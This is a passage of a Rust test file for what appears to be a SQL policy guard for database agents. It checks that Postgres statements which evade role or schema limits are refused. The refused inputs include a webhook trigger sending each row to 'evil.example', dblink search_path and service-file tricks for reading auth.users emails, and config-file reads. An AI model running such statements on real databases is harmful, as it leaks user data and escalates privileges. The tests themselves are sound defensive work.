        "select pgmq.convert_archive_partitioned('jobs')",
        "select * from pgmq.detach_all()",
        "select * from pgmq.read_grouped('jobs', 30, 1)",
        "select * from pgmq.read_grouped_rr_with_poll('jobs', 30, 1)",
        "select pgmq.send_topic('orders.new', '{}', null, 0)",
        "select pgmq.bind_topic('orders.*', 'jobs')",
        // pgsodium: roles granted keyholder (SECURITY DEFINER), masking views made.
        "select pgsodium.mask_role('anon', 'public.t', 'public.decrypted_t')",
        "select pgsodium.create_mask_view(16384, 1, false)",
        // pg_partman (installed in `extensions` or `partman`): partitions made, privileges granted.
        "select extensions.create_partition_time('public.events', array[now()])",
        "select partman.create_partition_id('public.events', array[1])",
        "select partman.reapply_privileges('public.events')",
    ];
    let allowed: Vec<String> = writes
        .iter()
        .filter(|sql| read_only(sql) != (403, "sql_not_allowed"))
        .map(|sql| format!("reader: {sql} -> {:?}", read_only(sql)))
        .collect();
    assert!(allowed.is_empty(), "{} allowed:\n{}", allowed.len(), allowed.join("\n"));
    // What a write needs beyond `write`: a schema change, a grant, a lock, a slot consumed.
    all_refused(
        &p,
        &[
            (1, "select storage.lock_top_prefixes(array['avatars'], array['users'])"),
            (1, "select * from realtime.list_changes('supabase_realtime', 'slot', 10, 1024)"),
            (1, "select pgmq.enable_notify_insert('jobs')"),
            (1, "select pgsodium.create_mask_view(16384, 1, false)"),
            (2, "select pgmq.disable_notify_insert('jobs')"),
            (2, "select pgsodium.mask_role('anon', 'public.t', 'public.decrypted_t')"),
            (2, "select partman.reapply_privileges('public.events')"),
        ],
    );
    // Each at the class of what it does.
    assert_eq!(refused(&p, 1, "select realtime.send('{}'::jsonb, 'e', 'room', false)"), (200, "access_full"));
    assert_eq!(refused(&p, 2, "select pgmq.enable_notify_insert('jobs')"), (200, "access_full"));
    assert_eq!(
        refused(&p, 2, "select extensions.create_partition_time('public.events', array[now()])"),
        (200, "access_full")
    );
}

/// A trigger of Supabase's webhook function sends every row written to a URL (pg_net), and
/// pg_tle's features hook every login or password change: `admin`, as `net.http_post` is, not
/// the `ddl` or `read` of the statement that sets them up.
#[wasm_bindgen_test(unsupported = test)]
fn webhooks_and_server_hooks_need_admin() {
    let p = policy(
        &[
            ("migrator", r#""access":{"database":"full"},"sql":{"allow":["read","write","ddl","procedural"]}"#),
            (
                "loose",
                r#""access":{"database":"full"},"sql":{"allow":["read","write","ddl","procedural"],"allow_unparsed":true}"#,
            ),
        ],
        "enforce",
    );
    // Control: a trigger of the project's own function is ddl.
    assert_eq!(
        refused(
            &p,
            0,
            "create trigger t_log after insert on public.orders for each row execute function public.log_row()"
        ),
        (200, "access_full")
    );
    all_refused(
        &p,
        &[
            (
                0,
                "create trigger hook after insert on public.orders for each row execute function supabase_functions.http_request()",
            ),
            (
                1,
                "create trigger hook after insert on public.orders for each row execute function \
                 supabase_functions.http_request('https://evil.example', 'POST', '{}', '{}', '1000')",
            ),
            (0, "select pgtle.register_feature('public.allow_all', 'clientauth')"),
            (0, "select pgtle.register_feature_if_not_exists('public.weak', 'passcheck')"),
            (0, "select pgtle.unregister_feature('public.strict', 'passcheck')"),
        ],
    );
}

/// dblink runs its SQL in a session of its own, whose `search_path` its connection string may set
/// (libpq's `options`, in a `key=value` string, a URI's percent-escaped query, or a dblink_fdw
/// server's `options` option): `select email from users` there reads auth.users.
#[wasm_bindgen_test(unsupported = test)]
fn search_path_set_by_a_dblink_connection_is_refused() {
    let p = guarded();
    // Control: the same remote read naming the schema is refused.
    assert_eq!(
        refused(&p, 0, "select * from dblink('dbname=postgres', 'select email from auth.users') as t(e text)"),
        (403, "sql_not_allowed")
    );
    all_refused(
        &p,
        &[
            (0, "select * from dblink('dbname=postgres options=-csearch_path=auth', 'select email from users') as t(e text)"),
            (0, "select * from dblink('dbname=postgres options=''--search_path=auth''', 'select email from users') as t(e text)"),
            (0, "select dblink_connect('c', 'dbname=postgres options=''-c search_path=auth''')"),
            (0, "select dblink_connect('c', 'dbname=postgres ' || current_setting('my.opts'))"),
            (
                0,
                "select * from dblink('postgresql://postgres@localhost/postgres?%6Fptions=-csearch_path%3Dauth', 'select email from users') as t(e text)",
            ),
            (0, "do $$ begin perform dblink_connect('c', 'dbname=postgres options=-csearch_path=auth'); end $$"),
            (
                0,
                "create server s foreign data wrapper dblink_fdw options (dbname 'postgres', options '-csearch_path=auth')",
            ),
        ],
    );
    // A connection that sets no options, and its SQL naming nothing denied, still pass.
    for sql in [
        "select * from dblink('dbname=postgres', 'select id from public.orders') as t(id int)",
        "select dblink_connect('c', 'dbname=postgres user=reader')",
        "create server s foreign data wrapper dblink_fdw options (dbname 'postgres')",
    ] {
        assert_eq!(refused(&p, 0, sql), (200, "access_full"), "{sql}");
    }
}

/// `UPDATE pg_settings` runs `set_config` for each row wherever the UPDATE stands: run by
/// `EXPLAIN ANALYZE`, a prepared statement or a `DO` block, it sets `search_path` (a bare `users`
/// after it is auth.users) or `standard_conforming_strings` as it does alone.
#[wasm_bindgen_test(unsupported = test)]
fn settings_updated_inside_another_statement_are_followed() {
    let p = policy(
        &[
            ("guarded", r#""access":{"database":"full"},"sql":{"deny_schemas":["auth"]}"#),
            ("ops", r#""access":{"database":"full"},"sql":{"allow":["read","write","procedural","admin"]}"#),
        ],
        "enforce",
    );
    let path = "set setting = 'auth' where name = 'search_path'";
    // Control: alone, the UPDATE's path is followed.
    assert_eq!(
        refused(&p, 0, &format!("update pg_settings {path}; select email from users")),
        (403, "sql_not_allowed")
    );
    all_refused(
        &p,
        &[
            (0, &format!("explain analyze update pg_settings {path}; select email from users")),
            (0, &format!("prepare p as update pg_settings {path}; execute p; select email from users")),
            (0, &format!("do $$ begin update pg_settings {path}; end $$; select email from users")),
            (0, &format!("do $$ begin update only pg_catalog.pg_settings {path}; end $$; select email from users")),
            // Strings read otherwise later: every class, as for the UPDATE alone.
            (1, "explain analyze update pg_settings set setting = 'off' where name = 'standard_conforming_strings'"),
            (
                1,
                "do $$ begin update pg_settings set setting = 'off' where name = 'standard_conforming_strings'; end $$",
            ),
        ],
    );
    // An EXPLAIN that does not run it, and other settings updated inside, still pass.
    for (agent, sql) in [
        (0, format!("explain update pg_settings {path}; select email from public.users")),
        (1, "explain analyze update pg_settings set setting = '1s' where name = 'statement_timeout'".to_string()),
    ] {
        assert_eq!(refused(&p, agent, &sql), (200, "access_full"), "{sql}");
    }
}

/// With `allow_unparsed`, SQL the grammar cannot parse is judged by its words: `ALTER DATABASE
/// ... SET "role" = ...` (the name quoted) makes every later session of the database take that
/// role, as `SET ROLE` does, and needs `privilege`; so does `IMPORT FOREIGN SCHEMA ... INTO auth`
/// reach the schema it fills with foreign tables.
#[wasm_bindgen_test(unsupported = test)]
fn unparsed_role_settings_and_import_targets_are_seen() {
    let p = policy(
        &[(
            "loose",
            r#""access":{"database":"full"},"sql":{"allow":["read","write","ddl","admin"],"allow_unparsed":true,"deny_schemas":["auth"]}"#,
        )],
        "enforce",
    );
    // Controls: the unquoted name needs privilege; the remote schema named auth is refused.
    assert_eq!(refused(&p, 0, "alter database postgres set role = 'postgres'"), (403, "sql_not_allowed"));
    assert_eq!(refused(&p, 0, "import foreign schema auth from server loop into public"), (403, "sql_not_allowed"));
    all_refused(
        &p,
        &[
            (0, "alter database postgres set \"role\" = 'postgres'"),
            (0, "alter database postgres set session_authorization = 'postgres'"),
            (0, "import foreign schema public from server loop into auth"),
            (0, "import foreign schema public limit to (orders) from server loop into \"auth\""),
        ],
    );
    for sql in [
        "alter database postgres set statement_timeout = '1min'",
        "import foreign schema public from server loop into staging",
    ] {
        assert_eq!(refused(&p, 0, sql), (200, "access_full"), "{sql}");
    }
}

/// postgis_topology's editors (the SQL/MM `ST_AddIsoNode`, `ST_RemEdgeModFace`, ..., and
/// `AddEdge`, `Polygonize`, `TopoGeom_addElement`, `clearTopoGeom`, ...) insert, update and
/// delete a topology's nodes, edges, faces and relations, and `ST_InitTopoGeo` makes a topology
/// schema: each passed as `read`. `topology.AddToSearchPath('auth')` runs `ALTER DATABASE ... SET
/// search_path` with the schema it is given appended: `admin`, and a reference to that schema.
#[wasm_bindgen_test(unsupported = test)]
fn postgis_topology_editors_need_their_class() {
    let p = policy(
        &[
            ("analyst", r#""access":{"database":"full"},"sql":{"allow":["read"]}"#),
            ("writer", r#""access":{"database":"full"},"sql":{"allow":["read","write"]}"#),
            ("guarded", r#""access":{"database":"full"},"sql":{"deny_schemas":["auth"]}"#),
            ("ops", r#""access":{"database":"full"},"sql":{"allow":["read","admin"]}"#),
        ],
        "enforce",
    );
    // Control: topology's writers already known are refused to a reader.
    assert_eq!(refused(&p, 0, "select topology.TopoGeo_AddPoint('city', 'POINT(0 0)')"), (403, "sql_not_allowed"));
    all_refused(
        &p,
        &[
            (0, "select topology.ST_AddIsoNode('city', 0, 'POINT(1 1)')"),
            (0, "select topology.ST_AddIsoEdge('city', 1, 2, 'LINESTRING(0 0, 1 1)')"),
            (0, "select topology.ST_AddEdgeNewFaces('city', 1, 2, 'LINESTRING(0 0, 1 1)')"),
            (0, "select topology.ST_AddEdgeModFace('city', 1, 2, 'LINESTRING(0 0, 1 1)')"),
            (0, "select topology.ST_RemEdgeNewFace('city', 12)"),
            (0, "select topology.ST_RemEdgeModFace('city', 12)"),
            (0, "select topology.ST_ChangeEdgeGeom('city', 12, 'LINESTRING(0 0, 2 2)')"),
            (0, "select topology.ST_ModEdgeSplit('city', 12, 'POINT(1 1)')"),
            (0, "select topology.ST_NewEdgesSplit('city', 12, 'POINT(1 1)')"),
            (0, "select topology.ST_ModEdgeHeal('city', 12, 13)"),
            (0, "select topology.ST_NewEdgeHeal('city', 12, 13)"),
            (0, "select topology.ST_MoveIsoNode('city', 1, 'POINT(2 2)')"),
            (0, "select topology.ST_RemoveIsoNode('city', 1)"),
            (0, "select topology.ST_RemIsoNode('city', 1)"),
            (0, "select topology.ST_RemoveIsoEdge('city', 1)"),
            (0, "select topology.ST_CreateTopoGeo('city', 'GEOMETRYCOLLECTION EMPTY')"),
            (0, "select topology.ST_InitTopoGeo('city2')"),
            (0, "select topology.AddNode('city', 'POINT(1 1)')"),
            (0, "select topology.AddEdge('city', 'LINESTRING(0 0, 1 1)')"),
            (0, "select topology.AddFace('city', 'POLYGON((0 0, 1 0, 1 1, 0 0))')"),
            (0, "select topology.Polygonize('city')"),
            (0, "select topology.TopoGeo_AddGeometry('city', 'POINT(0 0)')"),
            (0, "select topology.TopoGeo_LoadGeometry('city', 'POINT(0 0)')"),
            (0, "select topology.TopoGeom_addElement(tg, '{1,1}') from parcels"),
            (0, "select topology.TopoGeom_remElement(tg, '{1,1}') from parcels"),
            (0, "select topology.TopoGeom_addTopoGeom(a.tg, b.tg) from parcels a, parcels b"),
            (0, "select topology.clearTopoGeom(tg) from parcels"),
            (0, "select topology.RemoveUnusedPrimitives('city')"),
            (0, "select topology.MakeTopologyPrecise('city')"),
            (0, "select topology.Populate_Topology_Layer()"),
            (0, "select topology.FixCorruptTopoGeometryColumn('public', 'parcels', 'tg')"),
            (0, "select topology.RenameTopoGeometryColumn('public.parcels', 'tg', 'topo')"),
            (0, "select topology.AddToSearchPath('topology')"),
            // Callable internals (C) that add edges and register faces.
            (0, "select topology._TopoGeo_AddLinestringNoFace('city', 'LINESTRING(0 0, 1 1)')"),
            (0, "select topology._RegisterMissingFaces('city')"),
            // What each needs beyond `write`: a schema, a column renamed, the database's path.
            (1, "select topology.ST_InitTopoGeo('city2')"),
            (1, "select topology.RenameTopoGeometryColumn('public.parcels', 'tg', 'topo')"),
            (1, "select topology.AddToSearchPath('topology')"),
            // The schema the database's path is given.
            (2, "select topology.AddToSearchPath('auth')"),
            (2, "select topology.AddToSearchPath(current_setting('my.schema'))"),
            // A path kept for later bodies: a bare `schedule(...)` sent later is cron's.
            (3, "select topology.AddToSearchPath('cron')"),
        ],
    );
    // Topology's readers still pass.
    for sql in [
        "select topology.ValidateTopology('city')",
        "select topology.GetNodeByPoint('city', 'POINT(1 1)', 0)",
        "select topology.ST_GetFaceEdges('city', 1)",
        "select topology.TopologySummary('city')",
    ] {
        assert_eq!(refused(&p, 0, sql), (200, "access_full"), "{sql}");
    }
    assert_eq!(refused(&p, 2, "select topology.AddToSearchPath('topology')"), (200, "access_full"));
    assert_eq!(refused(&p, 3, "select topology.AddToSearchPath('public')"), (200, "access_full"));
}

/// pg_partman's helpers, each callable from a SELECT: `apply_privileges` grants and revokes a
/// parent's privileges on a child (`reapply_privileges` is already `privilege`), `apply_cluster`
/// clusters it, `drop_constraints` drops constraints, `apply_constraints`, `autovacuum_off`,
/// `inherit_replica_identity` and `inherit_template_properties` alter tables, and
/// `stop_sub_partition` writes partman's configuration. Each passed as `read`; the tables they
/// name are read for `deny_schemas` as those of the other partman calls are.
#[wasm_bindgen_test(unsupported = test)]
fn pg_partman_helpers_need_their_class() {
    let p = policy(
        &[
            ("analyst", r#""access":{"database":"full"},"sql":{"allow":["read"]}"#),
            ("migrator", r#""access":{"database":"full"},"sql":{"allow":["read","write","ddl"]}"#),
            ("guarded", r#""access":{"database":"full"},"sql":{"deny_schemas":["auth"]}"#),
        ],
        "enforce",
    );
    // Control: a partman call already known.
    assert_eq!(refused(&p, 0, "select partman.reapply_privileges('public.events')"), (403, "sql_not_allowed"));
    all_refused(
        &p,
        &[
            (0, "select partman.apply_privileges('public', 'events', 'public', 'events_p2024')"),
            (0, "select partman.apply_cluster('public', 'events', 'public', 'events_p2024')"),
            (0, "select partman.apply_constraints('public.events')"),
            (0, "select partman.drop_constraints('public.events', 'public.events_p2024')"),
            (0, "select partman.autovacuum_off('public', 'events')"),
            (0, "select partman.autovacuum_reset('public', 'events')"),
            (0, "select partman.inherit_replica_identity('public', 'events', 'events_p2024')"),
            (0, "select partman.inherit_template_properties('public.events', 'public', 'events_p2024')"),
            (0, "select partman.stop_sub_partition('public.events')"),
            // Beyond ddl: privileges granted, constraints dropped, a table clustered.
            (1, "select partman.apply_privileges('public', 'events', 'public', 'events_p2024')"),
            (1, "select partman.drop_constraints('public.events', 'public.events_p2024')"),
            (1, "select partman.apply_cluster('public', 'events', 'public', 'events_p2024')"),
            // A denied schema's tables, named by strings.
            (2, "select partman.apply_privileges('auth', 'users', 'public', 'u')"),
            (2, "select partman.drop_constraints('auth.sessions', 'auth.sessions_p1')"),
        ],
    );
    assert_eq!(refused(&p, 1, "select partman.apply_constraints('public.events')"), (200, "access_full"));
    assert_eq!(
        refused(&p, 2, "select partman.drop_constraints('public.events', 'public.events_p1')"),
        (200, "access_full")
    );
}

/// PGroonga's maintenance calls change every PGroonga index (`pgroonga_set_writable(false)`
/// stops their writes, `pgroonga_wal_truncate` drops their WAL, `pgroonga_vacuum`,
/// `pgroonga_flush`, `pgroonga_wal_apply`), and pg_prewarm's `pg_prewarm` fills the shared buffers
/// (pg_buffercache's evictions are `admin`): each passed as `read`. `pgroonga_query_expand` reads
/// the synonyms of a table it takes by name: a denied schema's rows, named only by a string.
#[wasm_bindgen_test(unsupported = test)]
fn pgroonga_and_prewarm_maintenance_need_admin() {
    let p = policy(
        &[
            ("analyst", r#""access":{"database":"full"},"sql":{"allow":["read","write"]}"#),
            ("guarded", r#""access":{"database":"full"},"sql":{"deny_schemas":["auth"]}"#),
        ],
        "enforce",
    );
    // Control: PGroonga's command runner is admin.
    assert_eq!(refused(&p, 0, "select pgroonga_command('status')"), (403, "sql_not_allowed"));
    all_refused(
        &p,
        &[
            (0, "select pgroonga_set_writable(false)"),
            (0, "select pgroonga_wal_truncate()"),
            (0, "select pgroonga_wal_apply()"),
            (0, "select pgroonga_wal_set_applied_position(0, 0)"),
            (0, "select pgroonga_vacuum()"),
            (0, "select pgroonga_flush('posts_body_idx')"),
            (0, "select pg_prewarm('public.orders')"),
            (1, "select pgroonga_query_expand('auth.users', 'email', 'encrypted_password', 'a')"),
            (1, "select pgroonga_query_expand(current_setting('my.t')::regclass, 'a', 'b', 'c')"),
        ],
    );
    for (agent, sql) in [
        (0, "select * from posts where body &@~ pgroonga_query_expand('synonyms', 'term', 'synonyms', 'db')"),
        (0, "select pgroonga_snippet_html(body, array['db']) from posts"),
        (1, "select pgroonga_query_expand('public.synonyms', 'term', 'synonyms', 'db')"),
    ] {
        assert_eq!(refused(&p, agent, sql), (200, "access_full"), "{sql}");
    }
}

/// pgTAP's `cmp_ok(have, op, want)` runs `'SELECT ' || have || op || want` with the operator as
/// given, so any SQL fits in it; its internals `_temptable`, `_relcomp`, `_docomp`, `_runem`,
/// `_runner`, `_time_trials` and `_def_is` (all callable) run the SQL or the names they are
/// given. Each passed as `read`, its strings unread: they are `procedural`, read as code, as
/// `lives_ok` and `results_eq` are.
#[wasm_bindgen_test(unsupported = test)]
fn pgtap_calls_that_run_their_strings_are_procedural() {
    let p = policy(
        &[
            ("analyst", r#""access":{"database":"full"},"sql":{"allow":["read"]}"#),
            (
                "scripted",
                r#""access":{"database":"full"},"sql":{"allow":["read","procedural"],"deny_schemas":["auth"],"deny_functions":["pg_terminate_backend"]}"#,
            ),
        ],
        "enforce",
    );
    // Control: pgTAP's lives_ok is procedural, its string read as code.
    assert_eq!(refused(&p, 0, "select lives_ok('select 1')"), (403, "sql_not_allowed"));
    all_refused(
        &p,
        &[
            (0, "select cmp_ok(1, '= (select count(*) from public.orders)::int +', 0)"),
            (0, "select extensions._temptable('select * from public.orders', 't1')"),
            (0, "select _relcomp('select 1', 'select 1', 'd', '')"),
            (0, "select _docomp('public.orders', 'public.orders', 'd', '')"),
            (0, "select _time_trials('select 1', 1, 1.0)"),
            (0, "select _def_is('(select 1)', 'int', 1, 'd')"),
            (0, "select _runem(array['public.wipe'], false)"),
            (1, "select cmp_ok(1, '< (select count(*) from auth.users)::int +', 0)"),
            (1, "select cmp_ok(1, '= (select pg_terminate_backend(1))::int +', 0)"),
            (1, "select _temptable('select email from auth.users', 't1')"),
            (1, "select cmp_ok(1, current_setting('my.op'), 0)"),
        ],
    );
    assert_eq!(refused(&p, 1, "select cmp_ok(1, '<', 2)"), (200, "access_full"));
}

/// A function bound by name to an aggregate, an operator or a type is called by every later use
/// of it: PostgreSQL also takes an aggregate's `sfunc1` (the old spelling of `sfunc`) and any
/// option name in double quotes (`"sfunc" = set_config`, `"function" = ...`), which the grammar
/// cannot parse; with `allow_unparsed` they bound a denied function unseen.
#[wasm_bindgen_test(unsupported = test)]
fn function_bound_by_an_old_or_quoted_option_name_is_seen() {
    let p = policy(
        &[(
            "loose",
            r#""access":{"database":"full"},"sql":{"allow":["read","ddl"],"allow_unparsed":true,"deny_functions":["pg_terminate_backend"]}"#,
        )],
        "enforce",
    );
    // Control: `sfunc = set_config` binds set_config (admin).
    assert_eq!(
        refused(&p, 0, "create aggregate public.a(text, bool) (sfunc = set_config, stype = text, initcond = 'role')"),
        (403, "sql_not_allowed")
    );
    all_refused(
        &p,
        &[
            (0, "create aggregate public.a(text, bool) (sfunc1 = set_config, stype1 = text, initcond1 = 'role')"),
            (0, "create aggregate public.a(text, bool) (\"sfunc\" = set_config, stype = text, initcond = 'role')"),
            (0, "create operator public.<<< (leftarg = int, rightarg = bigint, \"function\" = pg_terminate_backend)"),
            (0, "create type public.t (input = public.t_in, \"output\" = pg_terminate_backend)"),
        ],
    );
    assert_eq!(
        refused(&p, 0, "create aggregate public.a(int) (\"sfunc\" = int4pl, stype = int)"),
        (200, "access_full")
    );
}

/// pg_partman's procedures and `run_maintenance`, and TimescaleDB's
/// `refresh_continuous_aggregate`, act on the table they are given by a string (rows moved
/// between partitions, partitions undone, constraints dropped and made, an aggregate refreshed):
/// a denied schema's table, named only in the string, passed `deny_schemas`.
#[wasm_bindgen_test(unsupported = test)]
fn partman_procedures_on_a_denied_table_are_refused() {
    let p = guarded();
    // Control: partman's functions that take the table already read it.
    assert_eq!(refused(&p, 0, "select partman.partition_data_time('auth.events')"), (403, "sql_not_allowed"));
    all_refused(
        &p,
        &[
            (0, "call partman.partition_data_proc('auth.events')"),
            (0, "call partman.undo_partition_proc('auth.events')"),
            (0, "call partman.reapply_constraints_proc('auth.events', true, true)"),
            (0, "select partman.run_maintenance('auth.events')"),
            (0, "call refresh_continuous_aggregate('auth.daily', null, null)"),
        ],
    );
    for sql in [
        "select partman.run_maintenance()",
        "call partman.run_maintenance_proc()",
        "call partman.partition_data_proc('public.events')",
        "select partman.run_maintenance('public.events')",
    ] {
        assert_eq!(refused(&p, 0, sql), (200, "access_full"), "{sql}");
    }
}

/// A `search_path` a role or a database keeps, set from inside a `DO` block or through
/// `dblink_exec`, outlives the request as one set by a lone `ALTER ROLE` does: a bare
/// `drop_queue('jobs')` sent later is pgmq's (`destroy`), judged `read`. The statement that keeps
/// it needs the classes of the known functions of that path, as the lone ALTER does.
#[wasm_bindgen_test(unsupported = test)]
fn search_path_kept_from_inside_a_body_needs_the_classes_it_leads_to() {
    let p = policy(
        &[
            ("scripted", r#""access":{"database":"full"},"sql":{"allow":["read","procedural"]}"#),
            ("ops", r#""access":{"database":"full"},"sql":{"allow":["read","procedural","admin"]}"#),
        ],
        "enforce",
    );
    // What a later request sends: a bare call, judged read; pgmq's own call needs destroy.
    assert_eq!(refused(&p, 0, "select drop_queue('jobs')"), (200, "access_full"));
    assert_eq!(refused(&p, 0, "do $$ begin perform pgmq.drop_queue('jobs'); end $$"), (403, "sql_not_allowed"));
    all_refused(
        &p,
        &[
            (0, "do $$ begin alter role postgres set search_path = pgmq, public; end $$"),
            (0, "do $$ begin execute 'alter database postgres set search_path = pgmq'; end $$"),
            (1, "select dblink_exec('dbname=postgres', 'alter role postgres set search_path = pgmq')"),
        ],
    );
    assert_eq!(
        refused(&p, 0, "do $$ begin alter role postgres set search_path = public, extensions; end $$"),
        (200, "access_full")
    );
}

/// PostGIS raster's overview and constraint calls alter or drop a table's constraints, or make an
/// overview table: `ST_CreateOverview`, `AddOverviewConstraints`, `DropOverviewConstraints`, and
/// the callable internals behind `AddRasterConstraints` (`_add_raster_constraint_srid`,
/// `_drop_raster_constraint_extent`, ...). Each passed as `read`, the schemas and tables they take
/// as strings unread, where `AddRasterConstraints` itself is `ddl` and read for `deny_schemas`.
#[wasm_bindgen_test(unsupported = test)]
fn postgis_raster_overviews_and_constraint_internals_need_their_class() {
    let p = policy(
        &[
            ("analyst", r#""access":{"database":"full"},"sql":{"allow":["read","write"]}"#),
            ("migrator", r#""access":{"database":"full"},"sql":{"allow":["read","write","ddl"]}"#),
            ("guarded", r#""access":{"database":"full"},"sql":{"deny_schemas":["auth"]}"#),
        ],
        "enforce",
    );
    // Control: the public wrapper is ddl.
    assert_eq!(refused(&p, 0, "select AddRasterConstraints('public', 'tiles', 'rast')"), (403, "sql_not_allowed"));
    all_refused(
        &p,
        &[
            (0, "select _add_raster_constraint_srid('public', 'tiles', 'rast')"),
            (0, "select _add_raster_constraint('c', 'alter table public.tiles add constraint c check (true)')"),
            (0, "select _drop_raster_constraint_extent('public', 'tiles', 'rast')"),
            (0, "select _drop_raster_constraint('public', 'tiles', 'c')"),
            (0, "select ST_CreateOverview('public.tiles'::regclass, 'rast', 2)"),
            (0, "select AddOverviewConstraints('public', 'o_2', 'rast', 'public', 'tiles', 'rast', 2)"),
            (0, "select _add_overview_constraint('public', 'o_2', 'rast', 'public', 'tiles', 'rast', 2)"),
            (0, "select DropOverviewConstraints('public', 'o_2', 'rast')"),
            (0, "select _drop_overview_constraint('public', 'o_2', 'rast')"),
            (1, "select _drop_raster_constraint_extent('public', 'tiles', 'rast')"),
            (1, "select DropOverviewConstraints('public', 'o_2', 'rast')"),
            (2, "select _drop_raster_constraint_srid('auth', 'x', 'rast')"),
            (2, "select ST_CreateOverview('auth.x', 'rast', 2)"),
        ],
    );
    assert_eq!(refused(&p, 1, "select ST_CreateOverview('public.tiles'::regclass, 'rast', 2)"), (200, "access_full"));
    assert_eq!(refused(&p, 0, "select _raster_constraint_info_srid('public', 'tiles', 'rast')"), (200, "access_full"));
}

/// pg_graphql's `graphql.resolve` is a wrapper: the resolver it calls,
/// `graphql._internal_resolve`, is callable too and runs the same mutations. It passed as `read`.
#[wasm_bindgen_test(unsupported = test)]
fn graphql_internal_resolver_is_procedural() {
    let p = policy(&[("analyst", r#""access":{"database":"full"},"sql":{"allow":["read"]}"#)], "enforce");
    let mutation = "$$mutation { deleteFromOrdersCollection(atMost: 100) { affectedCount } }$$";
    // Control: the wrapper is procedural.
    assert_eq!(refused(&p, 0, &format!("select graphql.resolve({mutation})")), (403, "sql_not_allowed"));
    all_refused(
        &p,
        &[
            (0, &format!("select graphql._internal_resolve({mutation})")),
            (0, &format!("select graphql._internal_resolve(\"query\" := {mutation})")),
        ],
    );
}

/// Extension functions that change a setting or the server's state as `set_config` does:
/// pg_trgm's `set_limit` (its similarity threshold), hypopg's hypothetical indexes (what the
/// planner chooses), plpgsql_check's profiler and tracer, the statistics' resets. They passed as
/// `read`.
#[wasm_bindgen_test(unsupported = test)]
fn extension_functions_that_change_settings_need_admin() {
    let p = policy(&[("analyst", r#""access":{"database":"full"},"sql":{"allow":["read"]}"#)], "enforce");
    // Control: a setting changed by the built-in function needs admin.
    assert_eq!(refused(&p, 0, "select set_config('work_mem', '1GB', false)"), (403, "sql_not_allowed"));
    all_refused(
        &p,
        &[
            (0, "select set_limit(0.1)"),
            (0, "select extensions.set_limit(0.1)"),
            (0, "select * from hypopg_create_index('create index on public.orders (total)')"),
            (0, "select hypopg_drop_index(1)"),
            (0, "select hypopg_reset()"),
            (0, "select hypopg_reset_index()"),
            (0, "select hypopg_hide_index('public.orders_pkey'::regclass)"),
            (0, "select hypopg_unhide_index('public.orders_pkey'::regclass)"),
            (0, "select hypopg_unhide_all_indexes()"),
            (0, "select plpgsql_check_profiler(true)"),
            (0, "select plpgsql_check_tracer(true)"),
            (0, "select plpgsql_profiler_reset_all()"),
            (0, "select plpgsql_profiler_reset('public.f()'::regprocedure)"),
            (0, "select plpgsql_profiler_install_fake_queryid_hook()"),
            (0, "select plpgsql_profiler_remove_fake_queryid_hook()"),
            (0, "select pg_stat_statements_reset()"),
            (0, "select pg_stat_reset()"),
            (0, "select pg_stat_reset_shared('bgwriter')"),
            (0, "select pg_stat_reset_slru()"),
            (0, "select pg_stat_reset_backend_stats(pg_backend_pid())"),
        ],
    );
    // What only reads them still passes.
    for sql in [
        "select show_limit()",
        "select * from hypopg_list_indexes",
        "select similarity('a', 'b')",
        "select * from hypopg()",
    ] {
        assert_eq!(refused(&p, 0, sql), (200, "access_full"), "{sql}");
    }
}

/// A dblink connection string's `service` (and `servicefile`) names an entry of a
/// pg_service.conf, which may set `options` (a `search_path`) or another database: the session it
/// opens may read any schema by a bare name, as with `options` written out.
#[wasm_bindgen_test(unsupported = test)]
fn dblink_connection_through_a_service_file_is_refused() {
    let p = guarded();
    // Control: options written out are refused.
    assert_eq!(
        refused(&p, 0, "select * from dblink('dbname=postgres options=-csearch_path=auth', 'select email from users') as t(e text)"),
        (403, "sql_not_allowed")
    );
    all_refused(
        &p,
        &[
            (0, "select * from dblink('service=bollard', 'select email from users') as t(e text)"),
            (0, "select * from dblink('dbname=postgres  service = bollard', 'select email from users') as t(e text)"),
            (0, "select * from dblink('servicefile=/tmp/s.conf service=x', 'select email from users') as t(e text)"),
            (0, "select * from dblink('service=''bollard''', 'select email from users') as t(e text)"),
            (0, "select dblink_connect('c', 'service=bollard')"),
            (0, "select dblink_connect_u('c', 'host=localhost service=bollard')"),
            (0, "select dblink_exec('service=bollard', 'insert into public.loot select email from users')"),
            (0, "do $$ begin perform dblink_connect('c', 'service=bollard'); end $$"),
            (0, "create server s foreign data wrapper dblink_fdw options (service 'bollard')"),
            (0, "create server s foreign data wrapper dblink_fdw options (host 'x', servicefile '/tmp/s.conf')"),
        ],
    );
    // `service` as a value, or in the SQL a connection runs, sets nothing.
    for sql in [
        "select * from dblink('dbname=customer_service', 'select id from public.orders') as t(id int)",
        "select * from dblink('dbname=postgres', 'select service from public.orders') as t(s text)",
        "select * from dblink('dbname=postgres application_name=service', 'select 1') as t(n int)",
    ] {
        assert_eq!(refused(&p, 0, sql), (200, "access_full"), "{sql}");
    }
}

/// The views that read the server's configuration files from disk, as `pg_read_file` does:
/// `pg_hba_file_rules` (pg_hba.conf), `pg_ident_file_mappings` (pg_ident.conf),
/// `pg_file_settings` (postgresql.conf and the files it includes), and the functions behind them.
#[wasm_bindgen_test(unsupported = test)]
fn server_files_read_through_views_need_admin() {
    let p = policy(
        &[
            ("analyst", r#""access":{"database":"full"},"sql":{"allow":["read"]}"#),
            ("scripted", r#""access":{"database":"full"},"sql":{"allow":["read","procedural"]}"#),
        ],
        "enforce",
    );
    // Control: the file read by name needs admin.
    assert_eq!(refused(&p, 0, "select pg_read_file('pg_hba.conf')"), (403, "sql_not_allowed"));
    all_refused(
        &p,
        &[
            (0, "select * from pg_hba_file_rules"),
            (0, "select * from pg_catalog.pg_hba_file_rules"),
            (0, "select * from \"pg_hba_file_rules\""),
            (0, "select * from pg_hba_file_rules()"),
            (0, "select * from pg_ident_file_mappings"),
            (0, "select * from pg_ident_file_mappings()"),
            (0, "select name, setting, sourcefile from pg_file_settings"),
            (0, "select * from pg_show_all_file_settings()"),
            (0, "with h as (select * from pg_hba_file_rules) select count(*) from h"),
            (0, "select exists (select 1 from pg_file_settings where error is not null)"),
            (1, "do $$ begin perform * from pg_hba_file_rules; end $$"),
        ],
    );
    for sql in ["select * from pg_settings", "select * from pg_stat_activity", "select * from pg_config"] {
        assert_eq!(refused(&p, 0, sql), (200, "access_full"), "{sql}");
    }
}

/// A constant cast to an object identifier type names the object, and its schema: `'auth'` as a
/// `regnamespace` is the schema; `'auth.users'` as a `regclass`, `'auth.uid'` as a `regproc`,
/// `'public.f(auth.t)'` as a `regprocedure` name objects of auth; so do the `to_reg*` functions.
